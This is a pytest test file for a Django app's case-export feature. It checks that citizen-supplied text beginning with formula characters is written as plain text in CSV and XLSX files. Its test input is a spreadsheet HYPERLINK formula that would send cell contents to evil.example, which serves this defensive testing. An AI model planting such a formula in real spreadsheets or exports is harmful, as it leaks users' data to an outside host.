"""Exports cannot carry a live formula (issue 19, OWASP "CSV injection"): a citizen's text starting with = + - @ tab
or CR is written as text in CSV and XLSX; numbers stay numbers."""
import csv
import io

import openpyxl
import pytest

from dispatch.evaluation.exports import cell, csv_lines, xlsx_bytes
from tests.conftest import client_for
from tests.events.conftest import file_patrol

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_would_be_a_formula_becomes_text(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize(("value", "expected"), [(-3, -3), (2.5, 2.5), (None, ""), ("垃圾堆放", "垃圾堆放"),
                                                 ("a=b", "a=b")])
def test_numbers_and_plain_text_are_unchanged(value, expected):
    assert cell(value) == expected


def test_csv_and_xlsx_writers_neutralise_every_cell():
    rows = [[ATTACK, -1, 7]]
    text = b"".join(csv_lines(["=header", "n", "m"], rows)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'=header", "n", "m"], ["'" + ATTACK, "-1", "7"]]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("t", ["h"], rows)])))
    first = book.active["A2"]
    assert first.data_type == "s" and first.value == "'" + ATTACK
    assert book.active["B2"].value == -1


def test_a_citizens_description_is_exported_as_text(world):
    file_patrol(world, description=ATTACK)
    client = client_for(world.supervisor)
    text = b"".join(client.get("/api/v1/metrics/case-export/", {"export": "csv"}).streaming_content)
    assert ("'" + ATTACK).replace('"', '""').encode() in text
    response = client.get("/api/v1/metrics/case-export/", {"export": "xlsx"})
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
